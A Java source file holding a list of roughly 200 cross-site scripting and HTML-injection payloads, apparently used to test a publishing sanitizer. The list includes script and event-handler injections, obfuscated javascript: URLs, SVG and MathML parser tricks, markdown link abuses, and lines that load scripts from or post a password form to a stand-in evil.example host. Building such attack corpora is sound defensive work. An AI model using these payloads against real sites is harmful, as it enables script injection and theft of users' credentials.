package dev.imprimatur.publishing.outlets;

import java.util.stream.Stream;

/** What has broken other sanitizers: each line is one attack. */
final class Attacks {
    private static final String LINES = """
            <script>alert(1)</script>
            <SCRIPT SRC=https://evil.example/x.js></SCRIPT>
            <scr<script>ipt>alert(1)</scr</script>ipt>
            <script/src=data:,alert(1)>
            <script\talert(1)</script>
            <<script>alert(1);//<</script>
            <script>alert(1)
            </script><script>alert(1)</script>
            <style>@import 'https://evil.example/x.css';</style>
            <style>*{background:url(javascript:alert(1))}</style>
            <link rel=stylesheet href=https://evil.example/x.css>
            <p style="background:url(javascript:alert(1))">x</p>
            <p style="position:fixed;inset:0">x</p>
            <b onclick=alert(1)>x</b>
            <b onclick="alert(1)" title="x">x</b>
            <b/onmouseover=alert(1)>x</b>
            <b\tonmouseover\t=\talert(1)>x</b>
            <b title="x"onclick="alert(1)">x</b>
            <b title='"><script>alert(1)</script>'>x</b>
            <b title="&quot;><script>alert(1)</script>">x</b>
            <b ONCLICK=alert(1)>x</b>
            <b oNcLiCk=alert(1)>x</b>
            <b &#111;nclick=alert(1)>x</b>
            <img src=x onerror=alert(1)>
            <img src="x"onerror="alert(1)">
            <img src='x'/onerror=alert(1)//
            <img src=x:x onerror=alert(1)>
            <img src=`x` onerror=`alert(1)`>
            <img src=javascript:alert(1)>
            <img src=data:image/svg+xml;base64,PHN2Zz4=>
            <img srcset="javascript:alert(1) 1x" src=x>
            <img dynsrc=javascript:alert(1) lowsrc=javascript:alert(1)>
            <img src=x title="--><script>alert(1)</script>">
            <a href=javascript:alert(1)>x</a>
            <a href="JaVaScRiPt:alert(1)">x</a>
            <a href=" javascript:alert(1)">x</a>
            <a href="\1javascript:alert(1)">x</a>
            <a href="java\tscript:alert(1)">x</a>
            <a href="java&Tab;script:alert(1)">x</a>
            <a href="java&NewLine;script:alert(1)">x</a>
            <a href="java&#x0A;script:alert(1)">x</a>
            <a href="java&#0;script:alert(1)">x</a>
            <a href="javascript&colon;alert(1)">x</a>
            <a href="javascript&#58;alert(1)">x</a>
            <a href="javascript&#x3a;alert(1)">x</a>
            <a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>
            <a href="&#0000106avascript:alert(1)">x</a>
            <a href="&#x6A&#x61vascript:alert(1)">x</a>
            <a href="\u00a0javascript:alert(1)">x</a>
            <a href="\u200bjavascript:alert(1)">x</a>
            <a href="\ufeffjavascript:alert(1)">x</a>
            <a href="javascript\uff1aalert(1)">x</a>
            <a href="view-source:javascript:alert(1)">x</a>
            <a href="feed:javascript:alert(1)">x</a>
            <a href="jar:https://evil.example/x.jar!/x">x</a>
            <a href="blob:https://evil.example/x">x</a>
            <a href="file:///etc/passwd">x</a>
            <a href="vbscript:msgbox(1)">x</a>
            <a href="VBScript:msgbox(1)">x</a>
            <a href="data:text/html,<script>alert(1)</script>">x</a>
            <a href="data:text/html;base64,PHNjcmlwdD4=">x</a>
            <a href="DATA&colon;text/html,x">x</a>
            <a href="livescript:x">x</a>
            <a href='javascript:alert("&#39;")'>x</a>
            <a href=javascript:alert(1) href=https://a.example>x</a>
            <a href=https://a.example target=_blank onclick=alert(1)>x</a>
            <a xlink:href=javascript:alert(1)>x</a>
            <a href=x ping=https://evil.example>x</a>
            <a id=x name=cookie>x</a>
            [x](javascript:alert(1))
            [x](JAVASCRIPT:alert(1))
            [x](<javascript:alert(1)>)
            [x](< javascript:alert(1)>)
            [x](java&Tab;script:alert(1))
            [x](javascript&colon;alert(1))
            [x](\\javascript:alert(1))
            [x](javascript\\:alert(1))
            [x](data:text/html,x)
            [x](vbscript:x)
            [x](https://a.example "&quot; onclick=alert(1)")
            [x](https://a.example '"onclick=alert(1)//')
            [x][y] [y]: javascript:alert(1)
            ![x](javascript:alert(1))
            ![x" onerror="alert(1)](https://a.example)
            ![x](https://a.example"onerror="alert(1))
            <javascript:alert(1)>
            <data:text/html,x>
            <https://a.example/"onclick=alert(1)>
            `x`<script>alert(1)</script>`x`
            <iframe src=https://evil.example></iframe>
            <iframe srcdoc="<script>alert(1)</script>"></iframe>
            <iframe><p title="</iframe><img src=x onerror=alert(1)>">
            <frameset><frame src=javascript:alert(1)></frameset>
            <object data=javascript:alert(1)></object>
            <object type=text/html data=data:text/html,x></object>
            <embed src=javascript:alert(1)>
            <applet code=x></applet>
            <portal src=https://evil.example></portal>
            <form action=https://evil.example><input name=password></form>
            <form><button formaction=javascript:alert(1)>x</button></form>
            <input autofocus onfocus=alert(1)>
            <isindex type=image src=1 onerror=alert(1)>
            <select><option>x</option></select>
            <textarea></textarea><script>alert(1)</script>
            <textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>
            <keygen autofocus onfocus=alert(1)>
            <base href=https://evil.example/>
            <meta http-equiv=refresh content="0;url=javascript:alert(1)">
            <meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-
            <svg onload=alert(1)></svg>
            <svg/onload=alert(1)>
            <svg><script>alert(1)</script></svg>
            <svg><script href=data:,alert(1) /></svg>
            <svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>
            <svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>
            <svg><animate attributeName=href values=javascript:alert(1) /></svg>
            <svg><set attributeName=onload to=alert(1) /></svg>
            <svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>
            <svg><style><img src=x onerror=alert(1)></style></svg>
            <svg><title><style><img src=x onerror=alert(1)></style></title></svg>
            <svg><desc><noscript></desc><img src=x onerror=alert(1)></noscript></svg>
            <svg></p><style><a title="</style><img src=x onerror=alert(1)>">
            <math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
            <math><annotation-xml encoding=text/html><style><img src=x onerror=alert(1)></style></annotation-xml></math>
            <math href=javascript:alert(1)>x</math>
            <math><mi xlink:href="data:x,<script>alert(1)</script>">
            <form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
            <noscript><p title="</noscript><img src=x onerror=alert(1)>">
            <noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>
            <noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>
            <xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>
            <title><img title="</title><img src=x onerror=alert(1)>"></title>
            <plaintext><img src=x onerror=alert(1)>
            <listing>&lt;img src=x onerror=alert(1)&gt;</listing>
            <template><script>alert(1)</script></template>
            <template shadowrootmode=open><script>alert(1)</script></template>
            <select><style></select><img src=x onerror=alert(1)></style></select>
            <table background=javascript:alert(1)><tr><td background=javascript:alert(1)>x</table>
            <table><script>alert(1)</script></table>
            <video src=x onerror=alert(1)></video>
            <video><source onerror=alert(1)></video>
            <audio src=x onerror=alert(1)>
            <video poster=javascript:alert(1)>
            <details open ontoggle=alert(1)>x</details>
            <marquee onstart=alert(1)>x</marquee>
            <body onload=alert(1)>
            <html manifest=https://evil.example>
            <bgsound src=javascript:alert(1)>
            <layer src=https://evil.example></layer>
            <xss id=x tabindex=1 onfocus=alert(1)></xss>
            <x-custom onclick=alert(1)>x</x-custom>
            <dialog open>x</dialog>
            <slot onslotchange=alert(1)>
            <b contenteditable onbeforeinput=alert(1)>x</b>
            <b autofocus tabindex=0 onfocus=alert(1)>x</b>
            <b accesskey=x onclick=alert(1)>x</b>
            <b popovertarget=x>x</b>
            <b class="modal overlay">x</b>
            <code class="language-x modal">x</code>
            <blockquote cite=javascript:alert(1)>x</blockquote>
            <q cite="data:text/html,x">x</q>
            <del cite=vbscript:x>x</del>
            <!--<img src="--><img src=x onerror=alert(1)//">
            <!--[if gte IE 4]><script>alert(1)</script><![endif]-->
            <!-- --!><img src=x onerror=alert(1)>
            <!--> <script>alert(1)</script> -->
            <![CDATA[<script>alert(1)</script>]]>
            <?xml-stylesheet href="javascript:alert(1)"?>
            <?php echo 1 ?>
            <!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;
            <!ENTITY x SYSTEM "file:///etc/passwd">
            </p><script>alert(1)</script>
            </div></body></html><script>alert(1)</script>
            ]]><script>alert(1)</script>
            &lt;script&gt;alert(1)&lt;/script&gt;
            &amp;lt;script&amp;gt;
            \\<script>alert(1)\\</script>
            <b\0onclick=alert(1)>x</b>
            <b\fonclick=alert(1)>x</b>
            <b\u00a0onclick=alert(1)>x</b>
            <\0script>alert(1)</script>
            <scr\0ipt>alert(1)</script>
            <script\f>alert(1)</script>
            <ſcript>alert(1)</ſcript>
            ＜script＞alert(1)＜/script＞
            {{constructor.constructor('alert(1)')()}} ${alert(1)} <%= x %> #{x}
            <p title="{{x}}">x</p>
            <a href="https://a.example/{{x}}">x</a>
            <a href="https://a.example" title="` onclick=alert(1)`">x</a>
            <a href="//evil.example" onclick=alert(1)>x</a>
            <a href="https:javascript:alert(1)">x</a>
            <a href="\\\\evil.example">x</a>
            <p><p><p onclick=alert(1)></b></i></p>
            <b <script>alert(1)</script>0
            <b <script x="</b>">x</b>
            <a<script>alert(1)</script>
            <a href="x" <script>alert(1)</script>>x</a>
            <img \"""><script>alert(1)</script>">
            <img src="a>b" onerror=alert(1)>
            <b title=a>b" onclick=alert(1)>x</b>
            <
            <b
            <b title="
            <a href='x
            &
            &#
            &#x110000;&#xD800;&#xFFFFFFFFFF;&#-1;
            """;

    private Attacks() {}

    static Stream<String> all() {
        return Stream.concat(LINES.lines(), Stream.of("<a href=\"\u2028javascript:alert(1)\">x</a>"));
    }
}
